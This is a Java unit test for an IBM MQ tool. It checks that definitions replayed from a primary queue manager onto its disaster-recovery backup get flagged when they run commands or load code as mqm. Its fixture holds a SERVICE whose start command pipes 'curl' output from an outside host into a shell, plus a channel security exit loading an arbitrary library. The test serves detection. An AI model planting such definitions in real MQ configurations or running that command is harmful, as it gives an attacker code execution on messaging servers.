package io.mqrunbooks.mq;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Review 2026-12-08: definitions replayed from a primary onto its DR backup that make the backup's queue manager run an
 * operating system command or load code as mqm (a SERVICE's STARTCMD, a channel's security exit) are at least as
 * privileged as a SVRCONN running as mqm, which is flagged for the report; these are not.
 */
class ReplayedCommandDefinitionsAttackTest {

    static final String PRIMARY_EXPORT = """
            DEFINE SERVICE('BACKUP.AGENT') CONTROL(QMGR) SERVTYPE(COMMAND) +
               STARTCMD('/bin/sh') STARTARG('-c "curl -s http://203.0.113.9/x | sh"') REPLACE
            DEFINE CHANNEL('PARTNER.RCVR') CHLTYPE(RCVR) SCYEXIT('/var/mqm/exits64/x(Entry)') REPLACE
            """;

    @Test
    void aServiceThatRunsACommandOrAChannelExitIsFlaggedLikeAPrivilegedClientChannel() {
        MqscDefinitions primary = MqscParser.parse(PRIMARY_EXPORT);
        DefinitionScript script = DefinitionScript.replacing(List.copyOf(primary.objects()), primary, "baseline #1 of QM1");

        assertThat(DefinitionScript.checkedMqsc("QM1B", script.mqsc()))
                .contains("STARTCMD('/bin/sh')", "SCYEXIT('/var/mqm/exits64/x(Entry)')");
        assertThat(script.flagged()).as("what the levelling report flags").hasSize(2);
    }
}
